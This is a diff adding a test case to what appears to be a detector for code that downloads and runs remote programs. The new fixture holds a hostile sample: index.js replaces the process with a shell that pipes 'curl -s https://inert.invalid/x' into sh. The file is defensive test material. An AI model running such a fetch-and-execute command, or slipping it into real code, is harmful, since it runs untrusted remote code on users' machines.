@@ -4,6 +4,12 @@ import { downloadsAndSpawns } from './downloads-and-spawns.ts';
 examine(downloadsAndSpawns, {
   speaks: [
     {
+      when: 'a shell takes the place of the process',
+      files: {
+        'index.js': `if (process.execve) process.execve('/bin/sh', ['sh', '-c', 'curl -s https://inert.invalid/x | sh'], process.env)`,
+      },
+    },
+    {
       when: 'a function that is called runs a download from a host that the page does not speak of',
       files: {
         'README.md':
